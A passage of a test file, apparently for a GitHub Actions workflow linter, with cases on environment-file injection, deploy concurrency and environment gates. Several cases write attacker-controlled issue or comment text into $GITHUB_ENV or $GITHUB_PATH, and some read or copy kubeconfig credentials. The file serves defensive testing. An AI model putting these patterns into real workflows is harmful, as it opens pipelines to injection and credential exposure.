        errors: [{ line: 13, message: /to `\$GITHUB_PATH`/ }]
      },
      {
        name: 'a here-string is not a heredoc with a secret delimiter',
        code: envFileStep(ISSUE_BODY, `          if grep -q urgent <<< "$BODY"; then echo "PRIORITY=high" >> "$GITHUB_ENV"; fi\n          echo "ISSUE_BODY=$BODY" >> "$GITHUB_ENV"\n`),
        errors: [{ line: 14 }]
      },
      {
        name: 'sanitising one variable does not clean another',
        code: envFileStep(`          AUTHOR: \${{ github.event.issue.user.login }}\n${ISSUE_BODY}`, `          echo "AUTHOR=$(printf '%s' "$AUTHOR" | tr -d '\\n')" >> "$GITHUB_ENV"\n          echo "COMMENT=$BODY" >> "$GITHUB_ENV"\n`),
        errors: [{ line: 15 }]
      },
      {
        name: 'the variable cleaned on the write line, then written raw',
        code: envFileStep(ISSUE_BODY, `          echo "A=\${BODY//$'\\n'/ } B=$BODY" >> "$GITHUB_ENV"\n`),
        errors: [{ line: 13 }]
      },
      {
        name: 'a heredoc body written to the file',
        code: envFileStep(ISSUE_BODY, '          cat >> "$GITHUB_ENV" <<EOF\n          ISSUE_BODY=$BODY\n          EOF\n'),
        errors: [{ line: 13 }]
      },
      {
        name: 'a block redirect inside a loop',
        code: envFileStep(ISSUE_BODY, '          for f in a b; do\n            {\n              echo "X=$BODY"\n            } >> "$GITHUB_ENV"\n          done\n'),
        errors: [{ line: 16 }]
      },
      {
        name: 'tee -a to GITHUB_PATH, variable set at job level',
        code: push(job('p', '      - run: echo "$DIR" | tee -a "$GITHUB_PATH"\n', '    env:\n      DIR: ${{ github.event.comment.body }}\n'), 'issue_comment'),
        errors: [{ line: 12, message: /`github\.event\.comment\.body`/ }]
      },
      ...ESCAPED_DOLLARS.map((dollar) => ({
        name: `a double-quoted script writing a body whose env value spells the expression with ${dollar}`,
        code: quotedEnvFileWrite(`"${dollar}{{ github.event.issue.body }}"`),
        errors: [{ line: 12, message: /writes `\$BODY` \(from `github\.event\.issue\.body`, attacker-controlled\) to `\$GITHUB_ENV`/ }]
      }))
    ]
  },
  'workflow/deploy-continue-on-error': {
    valid: [
      { code: gatedDeploy('      - run: kubectl apply -f k8s/ && kubectl rollout status deploy/api\n') },
      {
        name: 'a github-script step posting the apply output as a comment deploys nothing',
        code: gatedDeploy(
          "      - run: kubectl apply -f k8s/ && kubectl rollout status deploy/api\n      - uses: actions/github-script@0123456789abcdef0123456789abcdef01234567\n        continue-on-error: true\n        with:\n          script: |\n            await github.rest.issues.createComment({ body: 'kubectl apply -f k8s/ finished' })\n"
        )
      },
      {
        name: 'the failure is put off: a later step fails the job when the deploy did not succeed',
        code: gatedDeploy(
          "      - id: apply\n        run: kubectl apply -f k8s/ && kubectl rollout status deploy/api\n        continue-on-error: true\n      - run: ./scripts/comment-result.sh\n      - if: steps.apply.outcome != 'success'\n        run: exit 1\n"
        )
      }
    ],
    invalid: [
      {
        name: 'a later step reads the outcome but does not fail the job',
        code: gatedDeploy("      - id: apply\n        run: kubectl apply -f k8s/ && kubectl rollout status deploy/api\n        continue-on-error: true\n      - if: steps.apply.outcome != 'success'\n        run: echo failed\n"),
        errors: [{ line: 14 }]
      },
      {
        code: gatedDeploy('      - run: kubectl apply -f k8s/ && kubectl rollout status deploy/api\n        continue-on-error: true\n'),
        errors: [{ line: 13, suggestion: '        continue-on-error: false' }]
      }
    ]
  },
  'workflow/deploy-without-concurrency': {
    valid: [
      { code: gatedDeploy('      - run: kubectl apply -f k8s/ && kubectl rollout status deploy/api\n') },
      { name: 'step linting deployment manifests', code: LINT_DEPLOYMENT_MANIFESTS },
      { name: 'temporary infrastructure: applied, tested, destroyed in the same job', code: TEMPORARY_INFRA },
      { name: 'temporary infrastructure torn down by apply -destroy', code: TEMPORARY_INFRA.replace('terraform destroy -auto-approve', 'terraform apply -destroy -auto-approve') },
      { name: 'a release job running a script named deploy', code: RELEASE_THEN_DEPLOY_SCRIPT },
      { name: 'a reusable deploy workflow of another repository (its own concurrency is not read)', code: push(`  deploy-preview:\n    uses: example-org/docs-tools/.github/workflows/deploy-preview.yml@${SHA}\n`) },
      { name: 'a kind cluster stood up by make e2e-bootstrap and loaded with kind load', code: kindE2e() },
      { name: 'a pull_request job with a read-only token and no secret: nothing shared to deploy to, whatever its script stands up', code: scriptClusterJob() },
      { name: 'the same job whose `if:` rules out the push trigger', code: scriptClusterJob('[push, pull_request]', "    if: github.event_name == 'pull_request'\n") },
      {
        // A token alone authenticates to the current context's cluster: the one the script stood up.
        name: 'the same job checking access with tokens its own cluster minted (--token only)',
        code: scriptClusterJob().replace(
          'kubectl wait --for=condition=Ready pods --all --timeout 180s\n',
          'kubectl wait --for=condition=Ready pods --all --timeout 180s\n          kubectl exec -n team deploy/web -- curl -s localhost:8080/ready\n          kubectl get pods -n team --token="$(kubectl -n team create token editor)"\n          DENIED=$(kubectl -n other create token viewer)\n          kubectl get pods -n team --token="$DENIED" && exit 1 || true\n'
        )
      },
      {
        name: "the same job printing its own cluster's kubeconfig, or writing the local cluster's",
        code: scriptClusterJob().replace('      - run: |\n', '      - run: |\n          cat ~/.kube/config\n          cp ~/.kube/config /tmp/kubeconfig.bak\n          kind get kubeconfig --name test > ~/.kube/config\n          sudo microk8s.config > ~/.kube/config\n')
      },
      ...LOCAL_CLUSTER_INSTALLS,
      { name: 'the e2e make target alone marks the cluster as the job\'s own', code: kindE2e().replace('kind load docker-image --name kind app-e2e:latest\n          ', '') },
      { name: 'kind load alone marks the cluster as the job\'s own', code: kindE2e().replace('make e2e-bootstrap KUBERNETES_VERSION=1.30.0', 'make images') },
      { name: 'a stack deployed by make deploy-ide and always destroyed by make destroy-ide', code: deployThenDestroy() },
      { name: 'a throwaway cluster from a local setup action', code: push(job('chart-test', '      - uses: ./.github/actions/setup-k3d\n      - run: helm install web charts/web --wait\n'), 'pull_request') },
      { name: 'an AKS cluster the job creates, deploys to and deletes in an always-run clean-up', code: ownAks() },
      { name: 'an EKS cluster created from a file and deleted by name inside $( … )', code: OWN_EKS },
      { name: 'a GKE cluster created in an if, deleted in a clean-up', code: OWN_GKE },
      { name: 'workflow-level concurrency', code: 'name: ci\non: push\nconcurrency: prod\npermissions:\n  contents: read\njobs:\n' + job('deploy', '      - run: ./deploy.sh\n', '    environment: production\n') }
    ],
    invalid: [
      { code: push(job('deploy', '      - run: kubectl apply -f k8s/ && kubectl rollout status deploy/api\n', '    environment: production\n')), errors: [{ line: 6 }] },
      {
        name: 'a docs job whose only deploy is mike deploy --push (no force): low, saying why',
        code: docsDeploy('mike deploy --push --update-aliases "$REF" latest'),
        errors: [{ line: 6, severity: 'low', message: /Low: all it deploys is `mike deploy --push`, which pushes the Pages branch without force, so of two overlapping runs the later push is refused/ }]
      },
      {
        name: 'a docs job built by a docs build script and published by peaceiris/actions-gh-pages without force_orphan: low',
        code: pagesActionDeploy('peaceiris/actions-gh-pages@v4', '          github_token: ${{ secrets.GITHUB_TOKEN }}\n          publish_dir: ./docs/site\n'),
        errors: [{ line: 6, severity: 'low', message: /all it deploys is `peaceiris\/actions-gh-pages`, which pushes the Pages branch without force, so of two overlapping runs the later push is refused/ }]
      },
      {
        name: 'peaceiris/actions-gh-pages with force_orphan: true force-pushes: medium',
        code: pagesActionDeploy('peaceiris/actions-gh-pages@v4', '          github_token: ${{ secrets.GITHUB_TOKEN }}\n          publish_dir: ./docs/site\n          force_orphan: true\n'),
        errors: [{ line: 6, severity: 'medium', message: /at the same time\.$/ }]
      },
      {
        name: 'JamesIves/github-pages-deploy-action with force: false rebases instead of overwriting: low',
        code: pagesActionDeploy('JamesIves/github-pages-deploy-action@v4', '          folder: docs/site\n          force: false\n'),
        errors: [{ line: 6, severity: 'low', message: /its commit is rebased onto the other run's/ }]
      },
      { name: 'JamesIves/github-pages-deploy-action by default force-pushes: medium', code: pagesActionDeploy('JamesIves/github-pages-deploy-action@v4', '          folder: docs/site\n'), errors: [{ line: 6, severity: 'medium' }] },
      {
        name: 'the Pages action beside a script not named for a docs build: medium',
        code: pagesActionDeploy('peaceiris/actions-gh-pages@v4', '          publish_dir: ./docs/site\n', './scripts/build-and-deploy-docs.sh'),
        errors: [{ line: 6, severity: 'medium' }]
      },
      { name: 'mkdocs gh-deploy without --force: low', code: docsDeploy('mkdocs gh-deploy --clean'), errors: [{ line: 6, severity: 'low', message: /`mkdocs gh-deploy`/ }] },
      { name: 'ghp-import -n -p without -f: low', code: docsDeploy('ghp-import -n -p site'), errors: [{ line: 6, severity: 'low', message: /`ghp-import --push`/ }] },
      { name: 'mike deploy --push --force: medium', code: docsDeploy('mike deploy --push --force "$REF" latest'), errors: [{ line: 6, severity: 'medium', message: /at the same time\.$/ }] },
      { name: 'mike deploy -p -f (short flags): medium', code: docsDeploy('mike deploy -p -f "$REF"'), errors: [{ line: 6, severity: 'medium' }] },
      { name: 'ghp-import -npf (a cluster forcing): medium', code: docsDeploy('ghp-import -npf site'), errors: [{ line: 6, severity: 'medium' }] },
      { name: 'mkdocs gh-deploy --force: medium', code: docsDeploy('mkdocs gh-deploy --force'), errors: [{ line: 6, severity: 'medium' }] },
      { name: 'mkdocs gh-deploy --no-history (a forced push): medium', code: docsDeploy('mkdocs gh-deploy --no-history'), errors: [{ line: 6, severity: 'medium' }] },
      { name: 'ghp-import -n -o -p (no history: a forced push): medium', code: docsDeploy('ghp-import -n -o -p site'), errors: [{ line: 6, severity: 'medium' }] },
      ...['npm run upload-docs', 'python tools/sync_docs.py', 'bash tools/sync_docs.sh', 'node tools/sync.js'].map((command) => ({
        name: `mkdocs gh-deploy beside project code (${command}): medium`,
        code: docsDeploy(`mkdocs gh-deploy\n          ${command}`),
        errors: [{ line: 6, severity: 'medium' as const }]
      })),
      {
        name: 'mkdocs gh-deploy in a job reading another secret: medium',
        code: docsDeploy('mkdocs gh-deploy').replace('          REF: v1\n', '          REF: v1\n          AWS_SECRET_ACCESS_KEY: ${{ secrets.DOCS_BUCKET_KEY }}\n'),
        errors: [{ line: 6, severity: 'medium' }]
      },
      { name: "mkdocs gh-deploy after the site's npm build: low", code: docsDeploy('npm ci && npm run build\n          mkdocs gh-deploy'), errors: [{ line: 6, severity: 'low' }] },
      { name: 'mike deploy without --push (pushes nothing; the label alone decides): medium', code: docsDeploy('mike deploy "$REF"'), errors: [{ line: 6, severity: 'medium' }] },
      { name: 'mike deploy --push beside an rsync to a host: medium', code: docsDeploy('mike deploy --push "$REF"\n          rsync -a site/ docs@example.org:/srv/docs'), errors: [{ line: 6, severity: 'medium' }] },
      { name: 'mike deploy --push beside an action not known to ship nothing: medium', code: docsDeploy('mike deploy --push "$REF"').replace('    steps:\n', `    steps:\n      - uses: someone/upload-site@\${SHA}\n`), errors: [{ line: 6, severity: 'medium' }] },
      ...[
        ['also on push', scriptClusterJob('[push, pull_request]')],
        ['a token that may write', scriptClusterJob('pull_request', '    permissions:\n      contents: write\n')],
        ['an OIDC token', scriptClusterJob('pull_request', '    permissions:\n      id-token: write\n')],
        ['a self-hosted runner', scriptClusterJob('pull_request').replace('runs-on: ubuntu-latest', 'runs-on: [self-hosted, linux]')],
        ["a runner label that is not one of GitHub's images", scriptClusterJob('pull_request').replace('runs-on: ubuntu-latest', 'runs-on: oracle-vm-16cpu')],
        ['a secret read', scriptClusterJob('pull_request', '', '        env:\n          KUBECONFIG_DATA: ${{ secrets.TEST_KUBECONFIG }}\n')],
        // A configuration variable reaches forks' pull requests too, and may hold a kubeconfig as a secret would.
        ['a configuration variable read', scriptClusterJob('pull_request', '', '        env:\n          KUBECONFIG_B64: ${{ vars.KUBECONFIG_B64 }}\n')],
        ['a KUBECONFIG env', scriptClusterJob('pull_request', '', '        env:\n          KUBECONFIG: /etc/ci/staging.yaml\n')],
        ['a --kubeconfig flag', scriptClusterJob().replace('kubectl apply -f -', 'kubectl apply --kubeconfig /etc/ci/staging.yaml -f -')],
        ['--server and --token flags', scriptClusterJob().replace('kubectl apply -f -', 'kubectl apply --server=https://staging.example.com --token="$CI_TOKEN" -f -')],
        ['a --server flag alone', scriptClusterJob().replace('kubectl apply -f -', 'kubectl apply --server https://staging.example.com -f -')],
        ["kubectl's short -s", scriptClusterJob().replace('kubectl apply -f -', 'kubectl -s https://staging.example.com --token="$T" apply -f -')],
        ['a --token flag alone, not minted here', scriptClusterJob().replace('kubectl apply -f -', 'kubectl apply --token "$CI_TOKEN" -f -')],
        ['a token variable assigned from elsewhere', scriptClusterJob().replace('kubectl apply -f -', 'kubectl apply --token="$T" -f -').replace('      - run: |\n', '      - run: |\n          T=$(cat deploy/token)\n          K=$(kubectl -n x create token y)\n')],
        ["helm's --kube-apiserver", scriptClusterJob().replace('kubectl apply -f -', 'kubectl apply -f -\n          helm upgrade --install web charts/web --kube-apiserver https://staging.example.com')],
        ['a kubeconfig written from text', scriptClusterJob().replace('      - run: |\n', '      - run: |\n          printf \'%s\' "$(cat ci/staging.kubeconfig)" > ~/.kube/config\n')],
        ['a kubeconfig copied from the repository', scriptClusterJob().replace('      - run: |\n', '      - run: |\n          cp deploy/staging.kubeconfig $HOME/.kube/config\n')],
        ["a cluster's server set in the kubeconfig", scriptClusterJob().replace('      - run: |\n', '      - run: |\n          kubectl config set clusters.staging.server https://staging.example.com\n          kubectl config use-context staging\n')]
      ].map(([name, code]) => ({ name: `a pull_request job applying manifests after a project script, with ${name}`, code, errors: [{ line: 6 }] })),
      {
        name: 'a kind e2e job that also logs in to AWS and fetches an EKS kubeconfig',
        code: kindE2e(`      - uses: aws-actions/configure-aws-credentials@${SHA}\n      - run: aws eks update-kubeconfig --name staging\n`),
        errors: [{ line: 6 }]
      },
      { name: 'a kind e2e job given a kubeconfig secret', code: kindE2e('      - run: echo "$KUBECONFIG_DATA" > ~/.kube/config\n        env:\n          KUBECONFIG_DATA: ${{ secrets.STAGING_KUBECONFIG }}\n'), errors: [{ line: 6 }] },
      { name: 'a local action that is not a cluster setup', code: push(job('deploy', '      - uses: ./.github/actions/setup-kubeconfig\n      - run: helm upgrade --install web charts/web --wait\n', '    environment: production\n')), errors: [{ line: 6 }] },
      { name: 'an AKS cluster the job creates but never deletes', code: ownAks(''), errors: [{ line: 6 }] },
      { name: 'an AKS cluster deleted only when the job failed', code: ownAks(AKS_CLEANUP.replace('always()', 'failure()')), errors: [{ line: 6 }] },
      { name: 'a cluster delete that is only a comment', code: ownAks('      - if: always()\n        run: |\n          # az aks delete --resource-group rg --yes --name $AKS_NAME\n          echo done\n'), errors: [{ line: 6 }] },
      { name: 'a cluster delete inside single quotes is text', code: ownAks(`      - if: always()\n        run: echo 'later, $(az aks delete --name $AKS_NAME)'\n`), errors: [{ line: 6 }] },
      {
        name: 'a job that only deletes a cluster, and deploys to another one',
        code: ownAks().replace('          az aks create --resource-group rg --name ${AKS_NAME} --node-count 3\n', ''),
        errors: [{ line: 6 }]
      },
      {
        name: 'its own cluster created and deleted, but another cluster\'s credentials fetched too',
        code: ownAks(AKS_CLEANUP, '          kubectl apply -f config/operator.yaml\n          az aks get-credentials --resource-group rg --name production\n          helm upgrade --install app charts/app\n'),
        errors: [{ line: 6 }]
      },
      {
        name: "its own cluster created and deleted, but another cluster's credentials fetched with a global option first",
        code: ownAks(AKS_CLEANUP, '          kubectl apply -f config/operator.yaml\n          aws --region us-east-1 eks update-kubeconfig --name production\n          kubectl apply -f prod.yaml\n'),
        errors: [{ line: 6 }]
      },
      {
        name: 'its own cluster created and deleted, but a Terraform apply beside it',
        code: ownAks(AKS_CLEANUP, '          kubectl apply -f config/operator.yaml\n          terraform apply -auto-approve\n'),
        errors: [{ line: 6 }]
      }
    ]
  },
  'workflow/deploy-without-environment': {
    valid: [
      { code: gatedDeploy('      - run: kubectl apply -f k8s/ && kubectl rollout status deploy/api\n') },
      { name: 'lint job whose action name contains release', code: push(job('lint', `      - uses: example-org/release-notes-lint@${SHA}\n      - run: make lint\n`)) },
      {
        name: 'system tests pushing to the registry on the runner, beside the kind cluster they stand up',
        code: push(job('run-tests', `      - uses: example-org/github-actions/.github/actions/setup-kind@\${SHA}\n      - run: |\n          docker build -t localhost:5001/connect:test .\n          docker push localhost:5001/connect:test\n      - uses: actions/download-artifact@\${SHA}\n        with:\n          github-token: \${{ github.token }}\n`))
      },
      { name: 'docker push to 127.0.0.1 though the token may write packages', code: push(job('image', '      - run: docker push 127.0.0.1:5000/app:1\n', '    permissions:\n      packages: write\n')) },
      { name: 'job named Setup Release Variables', code: push('  vars:\n    name: Setup Release Variables\n    runs-on: ubuntu-latest\n    timeout-minutes: 5\n    steps:\n      - run: echo "v=1" >> "$GITHUB_ENV"\n') },
      { name: 'step publishing test results', code: push(job('test', `      - run: make test\n      - name: Publish test results\n        uses: example-org/publish-unit-test-result-action@${SHA}\n        with:\n          files: results.xml\n`)) },
      { name: 'step linting deployment manifests', code: LINT_DEPLOYMENT_MANIFESTS },
      { name: 'a job named Publish Test Results whose steps only download and post test results', code: PUBLISH_TEST_RESULTS },
      { name: 'kubectl with global flags running a verb that deploys nothing', code: push(job('check', '      - run: kubectl --kubeconfig "$KC" -n prod get pods && helm -n prod status web\n')) },
      { name: 'a job named publish-coverage that uploads coverage and an artifact', code: push(job('publish-coverage', `      - uses: actions/checkout@${SHA}\n      - uses: codecov/codecov-action@${SHA}\n      - uses: actions/upload-artifact@${SHA}\n        with:\n          path: coverage/\n`)) },
      { name: 'release-drafter only drafts notes', code: push(job('notes', `      - uses: release-drafter/release-drafter@${SHA}\n`)) },
      { name: 'step named Setup Release Variables that only sets variables', code: push(job('build', '      - name: Setup Release Variables\n        run: echo "v=1" >> "$GITHUB_ENV"\n')) },
      {
        name: 'goreleaser building archives with no secret, token or write scope',
        code: push(job('build', `      - uses: goreleaser/goreleaser-action@${SHA}\n        with:\n          args: release --clean --config \${{ matrix.config }}\n      - uses: actions/upload-artifact@${SHA}\n        with:\n          path: dist/\n`))
      },
      { name: 'a release action given a read-only token', code: push(job('notes', `      - uses: softprops/action-gh-release@${SHA}\n`)) },
      { name: 'temporary infrastructure: applied, tested, destroyed in the same job', code: TEMPORARY_INFRA },
      { name: 'temporary infrastructure destroyed unless the run was cancelled', code: TEMPORARY_INFRA.replace('if: always()', 'if: ${{ !cancelled() }}') },
      { name: 'temporary infrastructure destroyed through bash -c', code: TEMPORARY_INFRA.replace('run: terraform destroy -auto-approve', `run: bash -c 'terraform destroy -auto-approve'`) },
      { name: 'temporary infrastructure destroyed on success or failure', code: TEMPORARY_INFRA.replace('if: always()', "if: success() || failure()") },
      { name: 'a kind cluster stood up by make e2e-bootstrap and loaded with kind load', code: kindE2e() },
      ...LOCAL_CLUSTER_INSTALLS,
      { name: 'a stack deployed by make deploy-ide and always destroyed by make destroy-ide', code: deployThenDestroy() },
      { name: 'a stack deployed by a script and destroyed by its counterpart', code: deployThenDestroy('      - if: always()\n        run: bash ./scripts/destroy.sh\n').replace('make deploy-ide environment="$CLUSTER_ID"', './scripts/deploy.sh') },
      { name: 'an AKS cluster the job creates, deploys to and deletes in an always-run clean-up', code: ownAks() },
      { name: 'a release-snapshot job whose goreleaser is told --snapshot --skip=publish (it publishes nothing)', code: SNAPSHOT_JOB },
      { name: 'a release job running goreleaser --skip-publish in a script', code: push(job('release', '      - run: goreleaser release --skip-publish --clean\n        env:\n          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n')) },
      { name: 'a release job running goreleaser --skip publish,sign in a script', code: push(job('release', '      - run: goreleaser release --skip publish,sign --clean\n        env:\n          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n')) }
    ],
    invalid: [
      { code: push(job('deploy', '      - run: ./deploy.sh && ./smoke-test.sh\n', '    concurrency: prod\n')), errors: [{ line: 6, message: /deploy job `deploy`/ }] },
      { name: 'a release-snapshot job that also pushes a tag: a release by its label', code: SNAPSHOT_JOB + '      - run: git push origin --tags\n', errors: [{ line: 6, severity: 'medium', message: /^release job `release-snapshot`/ }] },
      {
        name: 'a release-snapshot job that uploads the build to a bucket with its own credentials: a release by its label',
        code: SNAPSHOT_JOB + '      - run: aws s3 sync dist/ s3://downloads.example.com/nightly/\n        env:\n          AWS_SECRET_ACCESS_KEY: ${{ secrets.DOWNLOADS_KEY }}\n',
        errors: [{ line: 6, severity: 'medium', message: /^release job `release-snapshot`/ }]
      },
      { name: 'a release-snapshot job that uploads with curl -T: a release by its label', code: SNAPSHOT_JOB + '      - run: curl -T dist/app.tar.gz https://uploads.example.com/\n', errors: [{ line: 6, severity: 'medium' }] },
      {
        name: 'goreleaser skipping only signing publishes: a release',
        code: SNAPSHOT_JOB.replace('--snapshot --skip=publish', '--skip=sign'),
        errors: [{ line: 6, severity: 'medium', message: /^release job `release-snapshot`/ }]
      },
      {
        name: 'a script running goreleaser --snapshot, then a real goreleaser release: a release',
        code: push(job('release', '      - run: |\n          goreleaser release --snapshot --clean\n          goreleaser release --clean\n        env:\n          GITHUB_TOKEN: ${{ secrets.GITHUB_TOKEN }}\n')),
        errors: [{ line: 6, message: /^release job `release`/ }]
      },
      // Global flags before the verb: the job's label says nothing, the command alone makes it a deploy.
      ...[
        'kubectl --kubeconfig "$KUBECONFIG_PATH" apply -f k8s/',
        'kubectl -n prod --context=prod-eu apply -f k8s/',
        'helm --kube-context prod -n web upgrade --install web charts/web',
        'helmfile -e production apply'
      ].map((command) => ({ name: `a deploy with global flags before the verb: ${command}`, code: push(job('ship', `      - run: ${command}\n`, '    concurrency: prod\n')), errors: [{ line: 6 }] })),
      ...[
        { name: 'a release run only on release, holding only the job token: low', on: ON_RELEASE },
        { name: 'a release run on push and by hand, holding only the job token: low', on: '  push:\n    branches: [main]\n  workflow_dispatch:\n' },
        { name: 'a release on a schedule and on tags made, holding no secret at all: low', on: '  schedule:\n    - cron: "0 3 * * 1"\n  create:\n', env: '          GORELEASER_CURRENT_TAG: v1\n' },
        { name: "a release also run on pull_request (a fork's gets a read-only token and no secrets): low", on: '  push:\n  pull_request:\n', forks: true }
      ].map((c) => {
        const code = goreleaserJob(c.on, c.env)
        const message = c.forks
          ? /start with that token \(a fork's pull request gets a read-only token and no secrets\), so an environment would add only a reviewer gate\.$/
          : /so it runs without approval gates\. Low: it reads no secret but the job's own token .* so an environment would add only a reviewer gate\.$/
        return { name: c.name, code, errors: [{ line: releaseJobLine(code), severity: 'low' as const, message }] }
      }),
      {
        name: "a job whose if: keeps it to manual runs, in a workflow also run on issue comments: low, naming only the manual run",
        code: goreleaserJob('  workflow_dispatch:\n  issue_comment:\n').replace('  release-plugin:\n', "  release-plugin:\n    if: github.event_name == 'workflow_dispatch'\n"),
        errors: [{ line: 8, severity: 'low', message: /runs only on `workflow_dispatch`, which only people/ }]
      },
      ...[
        { name: 'a release given another secret: medium', code: goreleaserJob(ON_RELEASE, '          GITHUB_TOKEN: ${{ secrets.SEMANTIC_RELEASE_TOKEN }}\n') },
        { name: 'a release whose token may request an OIDC token: medium', code: goreleaserJob(ON_RELEASE, undefined, '  contents: write\n  id-token: write\n') },
        { name: 'a release also run on pull_request_target: medium', code: goreleaserJob(ON_RELEASE + '  pull_request_target:\n') },
        { name: 'a release run after another workflow: medium', code: goreleaserJob('  workflow_run:\n    workflows: [ci]\n') },
        { name: 'a release also run on an issue comment: medium', code: goreleaserJob('  push:\n  issue_comment:\n') },
        {
          name: 'a job whose if: does not rule the issue comment out: medium',
          code: goreleaserJob('  workflow_dispatch:\n  issue_comment:\n').replace('  release-plugin:\n', "  release-plugin:\n    if: github.actor != 'renovate[bot]'\n")
        }
      ].map((c) => ({ ...c, errors: [{ line: releaseJobLine(c.code), severity: 'medium' as const, message: /or environment-scoped secrets\.$/ }] })),
      { name: 'a rollback destroying the stack only when the apply failed', code: TEMPORARY_INFRA.replace('if: always()', 'if: failure()'), errors: [{ line: 6, message: /^deploy job `acceptance`/ }] },
      { name: 'a destroy under a condition that may not hold', code: TEMPORARY_INFRA.replace('if: always()', "if: github.event_name == 'schedule'"), errors: [{ line: 6, message: /^deploy job `acceptance`/ }] },
      {
        name: 'a quoted deploy script is quoted without its quotes',
        code: push(job('ship', '      - run: bash "./scripts/deploy.sh" production\n', '    concurrency: prod\n')),
        errors: [{ line: 6, message: /^job `ship` \(it runs `\.\/scripts\/deploy\.sh`, a deploy script/ }]
      },
      {
        name: 'a destroy command only printed by echo',
        code: TEMPORARY_INFRA.replace('      - if: always()\n        run: terraform destroy -auto-approve\n', '      - run: echo "remove it later with terraform destroy" >> "$GITHUB_STEP_SUMMARY"\n'),
        errors: [{ line: 6, message: /^deploy job `acceptance`/ }]
      },
      {
        name: 'a destroy command commented out',
        code: TEMPORARY_INFRA.replace('      - if: always()\n        run: terraform destroy -auto-approve\n', '      - run: |\n          # terraform destroy -auto-approve\n          echo done\n'),
        errors: [{ line: 6, message: /^deploy job `acceptance`/ }]
      },
      {
        name: 'a script named deploy-storybook is quoted whole',
        code: push(job('storybook', '      - run: npm run deploy-storybook -- --ci\n', '    concurrency: docs\n')),
        errors: [{ line: 6, message: /^job `storybook` \(it runs `npm run deploy-storybook`, a deploy script/ }]
      },
      {
        name: 'a make target named deploy-docs is quoted whole',
        code: push(job('site', '      - run: make deploy-docs && make clean\n', '    concurrency: docs\n')),
        errors: [{ line: 6, message: /^job `site` \(it runs `make deploy-docs`, a deploy script/ }]
      },
      { name: 'a release job running a script named deploy is a release job', code: RELEASE_THEN_DEPLOY_SCRIPT, errors: [{ line: 6, message: /^release job `publish` has no/ }] },
      {
        name: 'a deploy elsewhere beside the temporary infrastructure',
        code: TEMPORARY_INFRA.replace('      - run: ./run-suite.sh\n', '      - run: gcloud run deploy api --image "$IMAGE"\n'),
        errors: [{ line: 6, message: /^deploy job `acceptance`/ }]
      },
      {
        name: 'a job named publish that also runs an action not known to do something else',
        code: PUBLISH_TEST_RESULTS.replace('      - uses: actions/download-artifact', `      - uses: example-org/ship-packages@${SHA}\n      - uses: actions/download-artifact`),
        errors: [{ line: 6, message: /^release job `publish-test-results` has no/ }]
      },
      {
        name: 'a release job that checks its published release on a kind cluster is still a release job',
        code: kindE2e('      - run: gh release create v1 dist/*\n        env:\n          GH_TOKEN: ${{ github.token }}\n'),
        errors: [{ line: 6, message: /^release job `e2e_test` has no/ }]
      },
      {
        name: 'a cloud login and a cloud deploy beside the kind cluster: a deploy',
        code: push(job('deploy-preview', `      - uses: aws-actions/configure-aws-credentials@${SHA}\n      - run: kind create cluster\n      - run: helm install app charts/app\n      - run: terraform apply -auto-approve\n`, '    permissions:\n      id-token: write\n')),
        errors: [{ line: 6, message: /^deploy job `deploy-preview`/ }]
      },
      {
        name: 'an action named for k3s that deploys over ssh with a secret: a deploy',
        code: push(job('deploy-app', `      - uses: someorg/k3s-deploy-action@\${SHA}\n        env:\n          SSH_PRIVATE_KEY: \${{ secrets.PROD_SSH_KEY }}\n        with:\n          host: prod.example.com\n      - run: kubectl apply -f k8s/\n`)),
        errors: [{ line: 6, message: /^deploy job `deploy-app`/ }]
      },
      {
        name: 'a setup action named for k3s whose step is handed a secret: a deploy',
        code: push(job('deploy-app', `      - uses: someorg/setup-k3s@\${SHA}\n        env:\n          K3S_TOKEN: \${{ secrets.K3S_TOKEN }}\n      - run: kubectl apply -f k8s/\n`)),
        errors: [{ line: 6, message: /^deploy job `deploy-app`/ }]
      },
      {
        name: 'a kind cluster beside fetched cluster credentials: a deploy',
        code: push(job('deploy-operator', `      - uses: helm/kind-action@${SHA}\n      - uses: google-github-actions/get-gke-credentials@${SHA}\n      - run: helm install operator charts/operator\n`)),
        errors: [{ line: 6, message: /^deploy job `deploy-operator`/ }]
      },
      { name: 'a make target destroying something else than what was deployed', code: deployThenDestroy('      - if: always()\n        run: make delete-cache\n'), errors: [{ line: 6, message: /^job `test` \(it runs `make deploy-ide`/ }] },
      { name: 'a make teardown run only when the deploy failed', code: deployThenDestroy('      - if: failure()\n        run: make destroy-ide\n'), errors: [{ line: 6 }] },
      { name: 'publish job', code: push(job('package', '      - run: npm publish\n        env:\n          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}\n')), errors: [{ line: 6, message: /release job/ }] },
      { name: 'step running the project deploy script, whatever the job is called', code: push(job('build', '      - name: Ship it\n        run: ./scripts/deploy.sh production\n', '    concurrency: prod\n')), errors: [{ line: 6, message: /^job `build` \(it runs `\.\/scripts\/deploy\.sh`, a deploy script by its name; what it does was not read\) has no `environment:`/ }] },
      { name: 'step running make release, given the job token', code: push(job('build', '      - run: make release\n        env:\n          GH_TOKEN: ${{ github.token }}\n')), errors: [{ line: 6, message: /release job `build`/ }] },
      { name: 'goreleaser whose job may write releases', code: push(job('build', `      - uses: goreleaser/goreleaser-action@${SHA}\n        with:\n          args: release --clean\n`, '    permissions:\n      contents: write\n')), errors: [{ line: 6, message: /release job `build`/ }] },
      { name: 'docker push on a self-hosted runner', code: push(job('image', '      - run: docker push ghcr.io/acme/app:1\n').replace('ubuntu-latest', '[self-hosted, linux]')), errors: [{ line: 6, message: /release job `image`/ }] },
      { name: 'a release action taking the repository default token', code: 'name: ci\non: push\njobs:\n' + job('notes', `      - uses: softprops/action-gh-release@${SHA}\n`), errors: [{ line: 4, message: /release job `notes`/ }] },
      { name: 'docker push after a registry login with OIDC', code: push(job('image', '      - run: docker push 123.dkr.ecr.example/app:1\n', '    permissions:\n      id-token: write\n')), errors: [{ line: 6 }] },
      { name: 'docker push after a docker login with the job token', code: push(job('image', '      - run: echo "$T" | docker login ghcr.io -u bot --password-stdin && docker push ghcr.io/acme/app:1\n        env:\n          T: ${{ github.token }}\n', '    permissions:\n      packages: write\n')), errors: [{ line: 6, message: /release job `image`/ }] },
      { name: 'docker push after a login action', code: push(job('image', `      - uses: docker/login-action@\${SHA}\n      - run: docker push ghcr.io/acme/app:1\n`, '    permissions:\n      packages: write\n')), errors: [{ line: 6, message: /release job `image`/ }] },
